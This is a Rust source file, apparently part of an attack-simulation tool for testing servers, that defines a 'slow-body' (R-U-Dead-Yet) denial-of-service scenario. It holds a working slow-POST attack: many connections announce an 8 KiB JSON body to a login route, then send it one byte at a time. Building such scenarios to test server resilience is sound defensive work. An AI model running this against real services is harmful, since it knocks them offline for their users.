//! `slow-body` (R-U-Dead-Yet): many TLS connections, each sending a complete request head for
//! a JSON body just under common body limits, then the body one byte every `slow_interval`.
//! It goes to the login route, which every API of this kind has and which must read its body.
//! A server with no body deadline or minimum rate keeps every such connection for ever.

use super::drip::{self, Drip};
use crate::scenarios::{Load, Run, Scenario};

/// The path posted to: the login route.
pub const PATH: &str = super::login_flood::PATH;

/// The announced body length: below rampart's 16 KiB and most servers' defaults, so the
/// request is not refused for its size.
pub const BODY_LEN: usize = 8 * 1024;

/// The registry entry.
pub const SCENARIO: Scenario = Scenario {
    name: "slow-body",
    kind: "dos",
    description: "many connections sending a request body one byte at a time (R-U-Dead-Yet)",
    run: Run::Dos(|ctx, counters| Box::pin(drip::run(ctx, counters, DRIP))),
    load: Load::Connections,
};

const DRIP: Drip = Drip {
    opening: |host| {
        format!(
            "POST {PATH} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: attack-sim slow-body\r\n\
             Content-Type: application/json\r\nContent-Length: {BODY_LEN}\r\n\r\n{{\"username\":\""
        )
    },
    piece: |_| "a".to_string(),
};
